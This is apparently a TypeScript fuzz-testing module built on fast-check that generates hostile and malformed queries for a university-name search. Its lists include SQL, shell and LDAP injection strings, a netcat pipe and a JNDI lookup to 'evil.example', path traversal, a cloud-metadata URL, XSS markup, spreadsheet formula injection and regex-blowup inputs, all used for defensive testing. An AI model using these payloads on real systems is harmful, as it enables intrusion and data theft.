/** Texts that nobody searches for, and that have broken searches: made up, the same for the same seed. */
import fc from 'fast-check';

/** Query languages of other engines, and of the languages a text might land in. */
const SYNTAX = [
  'NEAR(a b, 3)',
  'name:*',
  'name:[* TO *]',
  '{!lucene q.op=AND}harvard',
  '_exists_:name AND NOT type:public',
  '"phrase of" ~5 harvard^10 +must -not',
  'harvard~2 OR (yale AND (brown NOT dartmouth))',
  '*:*',
  '*',
  '?',
  '%',
  '_',
  '***harv*rd***',
  '/^h.*d$/i',
  '{"query":{"match_all":{}}}',
  '{"$where":"sleep(1000)"}',
  '{"$gt":""}',
  '<->',
  "'harvard':* & !'yale'",
  'harvard SOUNDS LIKE yale',
  "'; drop table universities; --",
  "' OR '1'='1",
  '" OR ""="',
  "') UNION SELECT username, password_hash FROM users --",
  '1; attach database "x" as y',
  "x' AND randomblob(1000000000) --",
  "admin'/*",
  '`id`',
  '$(id)',
  '; cat /etc/passwd',
  '| nc evil.example 80',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data',
  '//evil.example',
  '*)(uid=*))(|(uid=*',
  "' or name()='x",
  `$\{jndi:ldap://evil.example/a}`,
  '{{7*7}}',
  '<%= 7*7 %>',
  '#{7*7}',
  '{{constructor.constructor("return this")()}}',
  '%s%s%s%n%x',
  '%00',
  '%0d%0aSet-Cookie:%20a=b',
  '\r\nSet-Cookie: a=b',
  '\r\n\r\n<h1>split</h1>',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'valueOf __proto__ prototype',
  'undefined',
  'null',
  'NaN',
  'true',
  '-Infinity',
];

/** Markup that would do something if a page held it as it is. */
export const MARKUP = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<svg/onload=alert(1)>',
  '</title><script>alert(1)</script>',
  '" autofocus onfocus="alert(1)',
  "' onmouseover='alert(1)",
  'javascript:alert(1)',
  '<iframe src="https://evil.example">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/a.css>',
  '<form action="https://evil.example"><input name=p>',
  '<!-- --><!--',
  '<![CDATA[<script>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#x3C;script&#x3E;',
  '<scr<script>ipt>',
  '\u2028</script>\u2029<script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
];

const SPREADSHEET = ['=1+1', '+1', '-1', '@SUM(A1)', '=HYPERLINK("http://evil.example")', '=cmd|"/c calc"!A1', '\t=1'];

const CHARACTERS = [
  '\u0000',
  'har\u0000vard',
  '\u0001\u0002\u0008\u001B[31m',
  '\u007F\u0080\u009F',
  '\u202Edravrah',
  '\u200Fהרווארד\u200E harvard',
  '\u2066\u202D\u202C\u2069',
  '\u200B\u200C\u200D\uFEFF\u2060',
  'h\u200Ba\u200Br\u200Bv\u200Ba\u200Br\u200Bd',
  'h\u00ADarvard',
  '\uFEFFharvard',
  '\uFFFD\uFFFE\uFFFF',
  '\uD800',
  '\uDC00\uD800',
  'harv\uD83Dard',
  '\u{10FFFF}\u{E0001}',
  '\u{1F1FA}\u{1F1F8}',
  '👩‍👩‍👧‍👦🎓🏫',
  '🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}',
  'ﷺ',
  'ﬁﬂ ﬃ',
  '①②③ ㎏ ㋿',
  'ⓗⓐⓡⓥⓐⓡⓓ',
  '𝓱𝓪𝓻𝓿𝓪𝓻𝓭',
  'ＨＡＲＶＡＲＤ',
  'Нarvаrd',
  'ΗΑΡΒΑΡΔ ς',
  'İstanbul ISPARTA ı',
  'ẞtraße',
  'ᾳ ᾼ ΐ ŉ ǰ',
  'เวียดนาม',
  '東京大学 清华大学',
  '서울대학교',
  'جامعة هارفارد',
  'विश्वविद्यालय',
  '\u0300\u0301\u0302',
  'Z̴̢̛͎a̵l̷g̸o',
  '٣١٤ ३१४ ３１４ ½ ² Ⅷ',
  '\u2028\u2029\u0085\u000B\u000C',
  '\u3164\u115F\u1160',
];

const WORDS = [
  'of the and at in for',
  'the the the the the the the the the the the the the',
  'university',
  'university university university college college college institute',
  'best top good great cheap affordable colleges near me',
  'a',
  'a b c d e f g h i j k l m n o p q r s t u v w x y z',
  'u of u of u of u of u of u',
  'st st st st st',
  "o' d' l' d'l'd'",
  "'''''''’’’’’’",
  'a.b.c.d.e.f.g.h.i.j.k.l.m.n.o.p',
  'a & m & a & m & a + m and m',
  'n.y. n.y. l.a. u.s.a.',
  '....................',
  '!@#$%^&*()_+-=[]{}|;:,.<>/?~`',
  '0',
  '-0',
  '1e309',
  '0x1F',
  '1234567890'.repeat(18),
  '12345',
  '00000',
  '99999-9999',
  'harvard, ma, ma, ma, ma',
  'springfield springfield springfield springfield',
  'new york new york new york university in new york new york',
  'west north south east west virginia carolina dakota columbia columbus',
  'washington washington washington state university of washington at washington',
];

/** What makes bad patterns and bad distances take for ever: long runs, near misses, words that can be cut many ways. */
const BOMBS = [
  'a'.repeat(200),
  'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!',
  'ab'.repeat(100),
  'a '.repeat(100),
  '. '.repeat(100),
  'a.'.repeat(100),
  "d'".repeat(100),
  '('.repeat(200),
  '(a|a)*'.repeat(33),
  '\\'.repeat(200),
  ' '.repeat(199),
  `x${' '.repeat(198)}x`,
  'a & '.repeat(50),
  'é'.repeat(200),
  'ﷺ'.repeat(200),
  'ß'.repeat(200),
  '\u0301'.repeat(200),
  `e${'\u0301'.repeat(199)}`,
  '👩‍👩‍👧‍👦'.repeat(28),
  '\u200B'.repeat(200),
  'universityuniversityuniversityuniversityuniversityuniversity',
  'newyorkstateuniversityofnewyorkatnewyork',
  'collegeofsaintmaryofthewoodsandofthelake',
  'univercity colege institue tecnology califonia massachusets pensylvania misisipi conecticut',
  'harvrd yael stanfrod princton colombia brwon dartmuth cornel dukee rcie emroy vandrbilt',
  'ststststststststststststststststststststst',
  'inininininininininininininininininininin',
];

const LISTED: readonly string[] = [...SYNTAX, ...MARKUP, ...SPREADSHEET, ...CHARACTERS, ...WORDS, ...BOMBS];

const anyCharacter = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.string({ unit: 'grapheme', maxLength: 60 }),
  // Any code unit, halves of characters too.
  fc.array(fc.integer({ min: 0, max: 0xff_ff }), { maxLength: 60 }).map((codes) => String.fromCharCode(...codes)),
  fc.string({ unit: fc.constantFrom('\u0301', '\u0308', '\u0327', 'e', 'a', '\u200D', '\u202E'), maxLength: 120 }),
);

/** Words that mean something, so that what surrounds them is looked at. */
const KNOWN_WORDS = [
  ...['harvard', 'university', 'college', 'saint', 'state', 'of', 'the', 'new', 'york', 'california', 'texas', 'a&m'],
  ...[
    'école',
    'montréal',
    'public',
    'colleges',
    'in',
    'hbcu',
    'mit',
    'ucla',
    'tech',
    'community',
    'north',
    'washington',
  ],
];
const aWord = fc.constantFrom(...KNOWN_WORDS);

/** A word with a few letters wrong, missing, doubled or swapped: the dearest thing a search does is to look for those. */
const slippedWord = fc.tuple(aWord, fc.array(fc.tuple(fc.nat(20), fc.nat(3)), { maxLength: 4 })).map(([word, slips]) =>
  slips.reduce((letters, [at, kind]) => {
    const here = at % (letters.length || 1);
    const [before, letter, after] = [letters.slice(0, here), letters.charAt(here), letters.slice(here + 1)];
    return [
      `${before}${after}`,
      `${before}${letter}${letter}${after}`,
      `${before}q${after}`,
      `${letter}${before}${after}`,
    ][kind] as string;
  }, word),
);

const glued = fc.array(slippedWord, { minLength: 2, maxLength: 8 }).map((words) => words.join(''));
const mixed = fc
  .array(fc.oneof(fc.constantFrom(...LISTED), slippedWord, slippedWord, glued, anyCharacter), {
    minLength: 1,
    maxLength: 14,
  })
  .chain((parts) => fc.constantFrom(' ', '', '-', '\u00A0', '/').map((between) => parts.join(between)));
const repeated = fc
  .tuple(fc.oneof(aWord, slippedWord, fc.constantFrom(...LISTED)), fc.integer({ min: 2, max: 60 }))
  .map(([text, times]) => `${text} `.repeat(times));

/** Texts of any length up to `most` characters; a fifth of them from the list as they are. */
export function hostileTexts(most: number): fc.Arbitrary<string> {
  return fc
    .oneof(
      { weight: 2, arbitrary: fc.constantFrom(...LISTED) },
      { weight: 3, arbitrary: mixed },
      { weight: 2, arbitrary: anyCharacter },
      { weight: 1, arbitrary: repeated },
      { weight: 1, arbitrary: fc.array(slippedWord, { minLength: 3, maxLength: 13 }).map((words) => words.join(' ')) },
      { weight: 1, arbitrary: glued },
    )
    .map((text) => [...text].slice(0, most).join(''));
}

/** `count` of them, the listed ones first. */
export function hostileSample(count: number, most: number, seed: number): string[] {
  const listed = LISTED.map((text) => [...text].slice(0, most).join(''));
  return [...listed, ...fc.sample(hostileTexts(most), { numRuns: Math.max(0, count - listed.length), seed })].slice(
    0,
    count,
  );
}
